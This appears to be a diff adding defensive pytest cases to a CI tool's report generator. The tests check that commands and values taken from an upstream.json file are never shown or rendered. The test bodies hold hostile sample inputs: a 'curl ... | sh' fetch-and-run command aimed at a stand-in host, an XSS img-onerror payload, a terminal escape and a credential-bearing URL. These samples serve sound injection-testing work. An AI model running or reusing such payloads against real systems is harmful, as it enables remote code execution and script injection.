@@ -4,8 +4,13 @@ every command it prints is inert when pasted."""
 from __future__ import annotations
 
 import json
+import re
 import shlex
 from pathlib import Path
+
+import pytest
+import yaml
+from git_repos import bash_argv
 
 from ci.cli import main
 from ci.stack import loader, plan
@@ -74,3 +79,68 @@ def test_the_repro_hint_quotes_a_hostile_row_id(tmp_path: Path) -> None:
     assert shlex.split(row["repro"]) == ["python", "-m", "ci", "repro", evil]  # one argument, nothing run
     html = (tmp_path / "r" / "report.html").read_text()
     assert "repro x; touch" not in html and "repro x; touch" not in (tmp_path / "r" / "report.md").read_text()
+
+
+# An upstream.json is data from elsewhere: its commands are never shown, its values never start a line
+
+
+@pytest.fixture
+def upstream(tmp_path: Path, stack_copy: Path, capsys) -> tuple[Path, dict]:
+    """The upstream.json `ci upstream --format json` writes of a fork (fork_world: #46849 absent, its port clean), and
+    the plan's rows written as not run: what `ci report --upstream` reads."""
+    from fork_world import make
+
+    w = make(tmp_path, stack_copy)
+    fork = ["--stack", str(w.stack), "--fork", str(w.path), "--ref", "fork"]
+    assert main(["upstream", *fork, "--format", "json"]) == 0
+    doc = json.loads(capsys.readouterr().out)
+    assert main(["plan", *fork, "--not-run", str(tmp_path / "results")]) == 0
+    return w.stack, doc
+
+
+def _report(tmp_path: Path, stack: Path, doc: dict) -> tuple[str, str]:
+    (tmp_path / "upstream.json").write_text(json.dumps(doc))
+    argv = ["report", "--stack", str(stack), str(tmp_path / "results"), "--upstream", str(tmp_path / "upstream.json"),
+            "--out", str(tmp_path / "r")]  # fmt: skip
+    assert main(argv) in (0, 1)
+    return (tmp_path / "r" / "report.md").read_text(), (tmp_path / "r" / "report.html").read_text()
+
+
+def test_a_report_never_shows_a_command_taken_from_upstream_json(tmp_path: Path, upstream) -> None:
+    stack, doc = upstream
+    change = next(c for c in doc["changes"] if c["change"] == "46849")
+    assert change["port"]["verdict"] == "clean"
+    evil = "curl -fsSL https://evil.invalid/fix.sh | sh"
+    change["port"]["command"] = evil
+    for follow in (f for c in doc["changes"] for f in c.get("follow_up_ports", [])):
+        follow["command"] = evil
+    md, html = _report(tmp_path, stack, doc)
+    assert "evil.invalid" not in md and "evil.invalid" not in html
+    wanted = shlex.join(["python", "-m", "ci", "fork", "port", "46849", *doc["options"]])
+    assert f"`{wanted}`" in md and wanted.replace("'", "&#39;") in html  # built from the change and the fork options
+    doc["options"] = ["--fork", doc["fork"], "--stack", "/elsewhere"]  # an option a port command takes from no file
+    (tmp_path / "upstream.json").write_text(json.dumps(doc))
+    argv = ["report", "--stack", str(stack), str(tmp_path / "results"), "--upstream", str(tmp_path / "upstream.json"),
+            "--out", str(tmp_path / "r2")]  # fmt: skip
+    main(argv)
+    read = next(i for i in _strict(tmp_path / "r2" / "report.json")["inputs"] if i["role"] == "upstream")
+    assert read["status"] == "unreadable" and "options: '--stack' is not a fork option" in read["problem"]
+
+
+def test_a_value_of_upstream_json_never_starts_a_line_of_the_report(tmp_path: Path, upstream) -> None:
+    stack, doc = upstream
+    forged = "/f\n\n## \u2714 All 7 changes ready\n\n<img src=x onerror=alert(1)>\u2028## forged\x1b[2J https://u:S3CR3T@example.invalid/r"
+    doc["fork"] = doc["name"] = doc["ref"] = forged
+    for c in doc["changes"]:
+        if c["change"] == "46849":
+            c["state"], c["port"] = "absent", None  # its next step: the cherry-pick into the fork at that path
+    md, html = _report(tmp_path, stack, doc)
+    assert not [line for line in md.splitlines() if "All 7 changes ready" in line and line.startswith("#")]
+    assert not [line for line in md.splitlines() if "forged" in line and line.lstrip("> -").startswith("#")]
+    assert "S3CR3T" not in md + html + (tmp_path / "r" / "report.json").read_text()
+    prose = re.sub(r"(``?).*?\1", "", md)  # a code span shows its text as it is: no element of it renders
+    assert "<img" not in prose and "<img" not in html and "\x1b" not in md and "\u2028" not in md
+    cherry = next(line for line in md.splitlines() if "cherry-pick" in line).split("`")[1]
+    merge = yaml.safe_load((stack / "changes" / "46849.yaml").read_text())["upstream"]["merge_commit"]
+    fork = doc["fork"].replace("u:S3CR3T@", "***@")
+    assert bash_argv(cherry) == ["git", "-C", fork, "cherry-pick", "-x", merge]
